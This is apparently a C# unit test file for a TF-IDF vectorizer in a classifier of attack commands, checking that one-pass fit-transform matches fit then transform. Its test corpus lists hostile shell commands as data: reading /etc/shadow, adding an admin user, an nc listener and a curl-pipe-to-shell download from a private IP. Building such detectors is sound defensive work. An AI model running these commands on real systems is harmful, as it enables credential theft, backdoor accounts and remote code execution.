using System.Collections;
using AttackClassifier.Classification;
using AttackClassifier.Kernels;
using AttackClassifier.Text;

namespace AttackClassifier.Tests.Text;

/// <summary>fit_transform: the rows of one pass equal Fit then Transform bit for bit, and each document is read once.</summary>
public class FitTransformTests
{
    private static readonly string[] Corpus =
    [
        "cat /etc/shadow", "cat /etc/passwd | grep root", "powershell -EncodedCommand SQBFAFgA", "whoami /all",
        "net user admin P@ss /add", "cat /etc/shadow", "nc -lvnp 4444", "curl http://10.0.0.5/x.sh | sh", "ls -la ~",
        "cmd.exe /c whoami", "x", "",
    ];

    public static TheoryData<TfidfOptions> Options() =>
    [
        new TfidfOptions(),
        new TfidfOptions { MaxFeatures = 7 },
        new TfidfOptions { Analyzer = TextAnalyzer.Char, NGramRange = new(1, 3), MinDocumentFrequency = DocumentFrequency.Documents(2) },
        new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 5), SublinearTf = true },
        new TfidfOptions { Norm = TfidfNorm.None, SmoothIdf = false, BlockWeight = 0.5, MaxDocumentFrequency = DocumentFrequency.Fraction(0.2) },
    ];

    [Theory]
    [MemberData(nameof(Options))]
    public void One_pass_equals_fit_then_transform_bit_for_bit(TfidfOptions options)
    {
        TfidfVectorizer separate = TfidfVectorizer.Fit(Corpus, options);
        TfidfVectorizer fitted = TfidfVectorizer.FitTransform(Corpus, options, out CsrMatrix rows);
        Assert.Equal(separate.Terms, fitted.Terms);
        Assert.Equal(separate.Idf.ToArray(), fitted.Idf.ToArray());
        SegmentedTfidfTests.AssertBitIdentical(separate.Transform(Corpus), rows);
    }

    [Fact]
    public void Union_and_segmented_one_pass_equal_fit_then_transform()
    {
        TfidfOptions[] parts = [new TfidfOptions { MaxFeatures = 9 }, new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 4), BlockWeight = 0.3 }];
        TfidfFeatureUnion union = TfidfFeatureUnion.FitTransform(Corpus, parts, out CsrMatrix rows);
        SegmentedTfidfTests.AssertBitIdentical(TfidfFeatureUnion.Fit(Corpus, parts).Transform(Corpus), rows);
        SegmentedTfidfTests.AssertBitIdentical(union.Transform(Corpus), rows);

        IReadOnlyList<string>[] segmented = Corpus.Select(c => (IReadOnlyList<string>)c.Split('|')).ToArray();
        TfidfFeatureUnion.FitTransformSegmented(segmented, parts, out CsrMatrix segmentedRows);
        SegmentedTfidfTests.AssertBitIdentical(TfidfFeatureUnion.FitSegmented(segmented, parts).TransformSegmented(segmented), segmentedRows);
    }

    [Fact]
    public void Each_document_is_read_once_per_block()
    {
        var documents = new CountingList(Corpus);
        TfidfFeatureUnion.FitTransform(documents, [new TfidfOptions(), new TfidfOptions { Analyzer = TextAnalyzer.Char }], out _);
        Assert.Equal(2 * Corpus.Length, documents.Reads);   // Fit then Transform would read each twice per block

        var classifier = TfidfLogisticRegressionClassifier.Train(new AttackClassifier.Data.CommandDataset(
            Corpus.Where(c => c.Length > 1).Select((c, i) => new AttackClassifier.Data.CommandRecord(c, i % 2 == 0 ? "A" : "B", 1)).ToArray()),
            TfidfLogisticRegressionOptions.Study);
        Assert.Single(classifier.Vectorizer.Parts);   // one block is a union of one
    }

    private sealed class CountingList(string[] items) : IReadOnlyList<string>
    {
        public int Reads { get; private set; }
        public string this[int index] { get { Reads++; return items[index]; } }
        public int Count => items.Length;
        public IEnumerator<string> GetEnumerator() { foreach (string s in items) { Reads++; yield return s; } }
        IEnumerator IEnumerable.GetEnumerator() => GetEnumerator();
    }
}
